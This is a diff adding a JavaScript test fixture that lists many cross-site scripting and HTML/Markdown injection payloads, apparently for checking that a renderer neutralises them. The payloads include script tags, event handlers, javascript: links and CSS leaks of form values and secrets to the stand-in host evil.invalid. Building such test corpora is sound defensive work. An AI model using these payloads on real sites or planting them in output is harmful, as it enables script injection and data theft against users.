@@ -1,0 +1,162 @@
+// What a model, a tool or a file name may say to make a page do something. None of it may work.
+// `hacked` is what each tries to set; `evil.invalid` is where each tries to send something.
+const JS = "window.hacked=1";
+const URL = "https://evil.invalid/x";
+
+const SCRIPTS = [
+  `<script>${JS}</script>`,
+  `<SCRIPT SRC=${URL}.js></SCRIPT>`,
+  `<script type=module>${JS}</script>`,
+  `<script>\n<!--\n${JS}\n//-->\n</script>`,
+  `<scr<script>ipt>${JS}</scr</script>ipt>`,
+  `<script/x>${JS}</script/x>`,
+  `"><script>${JS}</script>`,
+  `'><script>${JS}</script>`,
+  `</textarea><script>${JS}</script>`,
+  `</title><script>${JS}</script>`,
+  `</pre></code><script>${JS}</script>`,
+  `</script><script>${JS}</script>`,
+  `--><script>${JS}</script>`,
+  `]]><script>${JS}</script>`,
+  `<noscript><p title="</noscript><script>${JS}</script>">`,
+  `<script>import("${URL}.js")</script>`,
+];
+
+const HANDLERS = [
+  `<img src=x onerror="${JS}">`,
+  `<img src=x onerror=${JS}//`,
+  `<IMG """><IMG SRC=x ONERROR=${JS}>`,
+  `<img/src=x/onerror=${JS}>`,
+  `<img\nsrc=x\nonerror\n=\n"${JS}">`,
+  `<img src=x:x onerror\x0b="${JS}">`,
+  `<image src=x onerror="${JS}">`,
+  `<svg onload="${JS}">`,
+  `<svg/onload=${JS}>`,
+  `<svg><script>${JS}</script></svg>`,
+  `<svg><script href="${URL}.js"/></svg>`,
+  `<svg><animate onbegin="${JS}" attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${JS}"><text y=20>go</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${JS}>#x"/></svg>`,
+  `<svg><foreignObject><body onload=${JS}></foreignObject></svg>`,
+  `<svg><set attributeName=onmouseover to=${JS}></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${JS}>`,
+  `<math href="javascript:${JS}">go</math>`,
+  `<body onload="${JS}">`,
+  `<body onpageshow="${JS}">`,
+  `<input autofocus onfocus="${JS}">`,
+  `<select autofocus onfocus="${JS}">`,
+  `<textarea autofocus onfocus="${JS}">`,
+  `<details open ontoggle="${JS}">`,
+  `<video><source onerror="${JS}"></video>`,
+  `<video poster="${URL}" autoplay src=x onerror="${JS}">`,
+  `<audio src=x onerror="${JS}">`,
+  `<marquee onstart="${JS}">`,
+  `<div onpointerover="${JS}">over</div>`,
+  `<div style="animation:calm 1s" onanimationstart="${JS}">`,
+  `<div style="transition:all 1s" ontransitionend="${JS}" tabindex=1>`,
+  `<div popover id=p onbeforetoggle="${JS}"></div><button popovertarget=p>`,
+  `<dialog open onclose="${JS}">`,
+  `<x contenteditable onblur="${JS}">lose</x>`,
+  `<keygen autofocus onfocus=${JS}>`,
+];
+
+const FRAMES = [
+  `<iframe src="javascript:${JS}"></iframe>`,
+  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
+  `<iframe src="${URL}"></iframe>`,
+  `<iframe onload="${JS}"></iframe>`,
+  `<object data="javascript:${JS}"></object>`,
+  `<object data="data:text/html,<script>parent.hacked=1</script>"></object>`,
+  `<embed src="javascript:${JS}">`,
+  `<embed src="${URL}.swf">`,
+  `<frameset onload="${JS}"><frame src="${URL}"></frameset>`,
+  `<portal src="${URL}"></portal>`,
+];
+
+const LINKS = [
+  `<a href="javascript:${JS}">go</a>`,
+  `<a href="JaVaScRiPt:${JS}">go</a>`,
+  `<a href="java\tscript:${JS}">go</a>`,
+  `<a href="&#106;avascript:${JS}">go</a>`,
+  `<a href="data:text/html,<script>${JS}</script>">go</a>`,
+  `<a href="vbscript:hacked">go</a>`,
+  `<a ping="${URL}" href="#">go</a>`,
+  `<area shape=default href="javascript:${JS}">`,
+  `[go](javascript:${JS})`,
+  `[go](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)`,
+  `[go](vbscript:hacked)`,
+  `[go]: javascript:${JS}\n[go]`,
+  `[go](<javascript:${JS}>)`,
+  `[a](javascript&colon;${JS})`,
+  `<javascript:${JS}>`,
+  `![x](${URL}.png)`,
+  `![x](javascript:${JS})`,
+  `![x](x "onerror="${JS})`,
+  `![x][y]\n\n[y]: ${URL}.png`,
+  `${URL}?secret=1`,
+  `javascript:${JS}`,
+  `#/runs/"onmouseover="${JS}`,
+];
+
+const REMOTE = [
+  `<img src="${URL}.png">`,
+  `<img srcset="${URL}.png 2x">`,
+  `<picture><source srcset="${URL}.png"><img></picture>`,
+  `<link rel=stylesheet href="${URL}.css">`,
+  `<link rel=preload as=image href="${URL}.png">`,
+  `<link rel=dns-prefetch href="//evil.invalid">`,
+  `<link rel=prerender href="${URL}">`,
+  `<style>@import "${URL}.css";</style>`,
+  `<style>body{background:url(${URL}.png)}</style>`,
+  `<style>input[value^=a]{background:url(${URL}?a)}</style>`,
+  `<div style="background:url(${URL}.png)">`,
+  `<div style="width:expression(${JS})">`,
+  `<p style="position:fixed;inset:0;z-index:99999">cover</p>`,
+  `<table background="${URL}.png">`,
+  `<meta http-equiv=refresh content="0;url=${URL}">`,
+  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
+  `<base href="${URL}/">`,
+  `<form action="${URL}"><button autofocus>go</button></form>`,
+  `<form><button formaction="javascript:${JS}">go</button></form>`,
+  `<isindex action="javascript:${JS}" type=submit>`,
+];
+
+const CLOBBERING = [
+  `<form id=root><input name=parentNode></form>`,
+  `<img name=cookie><img id=getElementById>`,
+  `<a id=React><a id=React name=createElement href="x:1">`,
+  `<form name=body><input name=firstChild></form>`,
+  "__proto__",
+  "constructor.prototype.hacked",
+];
+
+const TEMPLATES = [
+  `{{constructor.constructor('${JS}')()}}`,
+  `\${${JS}}`,
+  `<%= ${JS} %>`,
+  `{%raw%}<script>${JS}</script>{%endraw%}`,
+  `<template><script>${JS}</script></template>`,
+  `<div v-html="'<img src=x onerror=${JS}>'">`,
+];
+
+const ODD_TEXT = [
+  `&lt;script&gt;${JS}&lt;/script&gt;`,
+  `&#x3C;img src=x onerror=${JS}&#x3E;`,
+  `\\u003cscript\\u003e${JS}\\u003c/script\\u003e`,
+  `＜script＞${JS}＜/script＞`,
+  `<\u200bscript>${JS}</script>`,
+  `\u202e<script>${JS}</script>\u202c`,
+  `<img src=x\u2028onerror=${JS}>`,
+  `\u0007\u001b]8;;javascript:${JS}\u0007go\u001b]8;;\u0007 🦊`,
+];
+
+export const PAYLOADS = [
+  ...SCRIPTS,
+  ...HANDLERS,
+  ...FRAMES,
+  ...LINKS,
+  ...REMOTE,
+  ...CLOBBERING,
+  ...TEMPLATES,
+  ...ODD_TEXT,
+];
